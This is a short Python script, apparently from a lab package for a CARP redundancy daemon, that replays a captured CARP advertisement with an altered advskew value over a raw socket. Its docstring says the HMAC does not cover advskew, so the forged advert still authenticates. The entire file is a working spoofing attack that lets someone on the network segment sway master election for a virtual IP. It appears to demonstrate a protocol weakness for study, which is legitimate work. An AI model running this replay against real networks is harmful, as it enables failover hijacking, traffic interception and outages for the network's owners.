"""Replay a captured CARP advert with another advskew, as an attacker on the segment.

    python -m carpd_lab.replay FILE ADVSKEW COUNT

FILE holds the IPv4 datagram in hex (from carpd_lab.sniff --save-carp-from). The HMAC
does not cover advskew, so the altered advert still authenticates (spec section 2.2).
"""

from __future__ import annotations

import dataclasses
import socket
import sys

from carpd.core.packet import IPPROTO_CARP, build_ipv4, decode_carp, parse_ipv4


def main() -> int:
    path, advskew, count = sys.argv[1], int(sys.argv[2]), int(sys.argv[3])
    with open(path) as f:
        ip4 = parse_ipv4(bytes.fromhex(f.read()))
    pkt = dataclasses.replace(decode_carp(ip4.payload), advskew=advskew)
    datagram = build_ipv4(ip4.src, ip4.dst, pkt.encode(), 4242)
    s = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_CARP)
    s.setsockopt(socket.IPPROTO_IP, socket.IP_HDRINCL, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_BINDTODEVICE, b"eth0")
    for _ in range(count):
        s.sendto(datagram, (str(ip4.dst), 0))
    print(f"replayed {count} x vhid {pkt.vhid} from {ip4.src} with advskew {advskew}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
